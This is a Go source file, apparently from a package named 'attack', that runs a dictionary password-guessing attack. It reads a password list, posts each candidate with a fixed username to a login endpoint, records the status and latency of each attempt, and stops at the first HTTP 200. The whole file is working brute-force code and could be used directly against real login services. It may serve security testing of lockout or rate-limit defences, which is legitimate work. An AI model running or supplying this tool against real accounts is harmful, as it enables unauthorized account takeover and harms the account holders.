package attack

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"os"
	"strings"
	"time"
)

// Attempt is one recorded login request
type Attempt struct {
	Number     int
	Timestamp  time.Time
	Password   string
	HTTPStatus int // 0 when the request never got a response
	Latency    time.Duration
}

// Result is the outcome of a run
type Result struct {
	Attempts []Attempt
	Duration time.Duration
}

// Found returns the successful attempt, if any
func (r *Result) Found() (Attempt, bool) {
	if n := len(r.Attempts); n > 0 && r.Attempts[n-1].HTTPStatus == http.StatusOK {
		return r.Attempts[n-1], true
	}
	return Attempt{}, false
}

// Recorder replays a password list against a login endpoint one request at a time
type Recorder struct {
	config Config
	client *http.Client
	logger *slog.Logger

	// OnAttempt, when set, is called after each attempt is recorded
	OnAttempt func(Attempt)
}

// NewRecorder creates a Recorder. A zero Timeout falls back to DefaultTimeout;
// a zero Delay means no pause.
func NewRecorder(config Config, logger *slog.Logger) (*Recorder, error) {
	if err := config.Validate(); err != nil {
		return nil, err
	}
	config = config.withDefaults()

	return &Recorder{
		config: config,
		client: &http.Client{Timeout: config.Timeout},
		logger: logger,
	}, nil
}

// Run posts each password in order and stops at the first HTTP 200, the end
// of the list, or ctx cancellation. Attempts recorded before a cancellation
// are returned with ctx.Err().
func (r *Recorder) Run(ctx context.Context) (*Result, error) {
	f, err := os.Open(r.config.PasswordFile)
	if err != nil {
		return nil, fmt.Errorf("failed to open password file: %w", err)
	}
	defer f.Close()

	return r.RunFrom(ctx, f)
}

// RunFrom is Run with the password list read from src
func (r *Recorder) RunFrom(ctx context.Context, src io.Reader) (*Result, error) {
	loginURL := r.config.LoginURL()
	result := &Result{}
	start := time.Now()
	defer func() { result.Duration = time.Since(start) }()

	scanner := bufio.NewScanner(src)
	number := 0
	for scanner.Scan() {
		password := strings.TrimSpace(scanner.Text())
		if password == "" {
			continue
		}

		if number > 0 && r.config.Delay > 0 {
			select {
			case <-ctx.Done():
				return result, ctx.Err()
			case <-time.After(r.config.Delay):
			}
		}
		if err := ctx.Err(); err != nil {
			return result, err
		}

		number++
		attempt := r.try(ctx, loginURL, number, password)
		result.Attempts = append(result.Attempts, attempt)
		if r.OnAttempt != nil {
			r.OnAttempt(attempt)
		}

		if attempt.HTTPStatus == http.StatusOK {
			r.logger.Info("password found", slog.Int("attempt", number))
			return result, nil
		}
	}
	if err := scanner.Err(); err != nil {
		return result, fmt.Errorf("failed to read password list: %w", err)
	}

	return result, nil
}

func (r *Recorder) try(ctx context.Context, loginURL string, number int, password string) Attempt {
	attempt := Attempt{
		Number:    number,
		Timestamp: time.Now(),
		Password:  password,
	}

	start := time.Now()
	status, err := r.post(ctx, loginURL, password)
	attempt.Latency = time.Since(start)

	if err != nil {
		r.logger.Debug("login request failed", slog.Int("attempt", number), slog.Any("error", err))
		return attempt
	}
	attempt.HTTPStatus = status
	return attempt
}

func (r *Recorder) post(ctx context.Context, loginURL, password string) (int, error) {
	body, err := json.Marshal(map[string]string{
		"username": r.config.Username,
		"password": password,
	})
	if err != nil {
		return 0, err
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, loginURL, bytes.NewReader(body))
	if err != nil {
		return 0, err
	}
	req.Header.Set("Content-Type", "application/json")

	resp, err := r.client.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()

	// Drain so the connection is reused
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, nil
}
